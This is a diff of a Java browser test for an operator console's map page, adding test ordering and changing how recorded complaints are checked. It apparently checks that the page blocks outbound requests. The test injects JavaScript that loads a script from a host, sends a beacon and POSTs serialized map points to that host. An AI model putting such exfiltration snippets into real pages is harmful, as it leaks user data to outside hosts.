@@ -22,9 +22,13 @@ import java.util.List;
 import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.MethodOrderer;
+import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.TestMethodOrder;
 
 /** A map of the operator's beside the track: the one of the documentation, and worse ones. */
+@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
 class MapWalk {
   private static final int MOST_TRIES = 120;
 
@@ -58,7 +62,9 @@ class MapWalk {
   @AfterEach
   void restore() throws IOException {
     ConsoleSite.writeMap(site.data, ConsoleSite.documentedMap());
-    assertThat(site.complaints).isEmpty();
+    List<String> found = List.copyOf(site.complaints);
+    site.complaints.clear();
+    assertThat(found).isEmpty();
   }
 
   private static Page opened(View view) {
@@ -77,7 +83,9 @@ class MapWalk {
     page.waitForSelector(".map rect");
   }
 
+  /** The first: a second look within the hour is no entry of its own. */
   @Test
+  @Order(1)
   void map_getsTheCellsOfTheStore_whenItIsAskedFor_andTheLogHasWho() throws Exception {
     Page page = opened(View.USUAL);
     String who = ConsoleSite.name(Role.OPERATOR) + " as OPERATOR places/" + vehicle;
@@ -186,9 +194,7 @@ class MapWalk {
             inline.textContent = 'window.struck = 1';
             const style = document.createElement('link');
             Object.assign(style, { rel: 'stylesheet', href: `${host}/a.css` });
-            const frame = document.createElement('iframe');
-            frame.src = host;
-            element.append(image, script, inline, style, frame);
+            element.append(image, script, inline, style);
             await import(`${host}/b.js`).catch(() => {});
             navigator.sendBeacon(host, 'x');
             await fetch(host, { method: 'POST', body: JSON.stringify(points) });
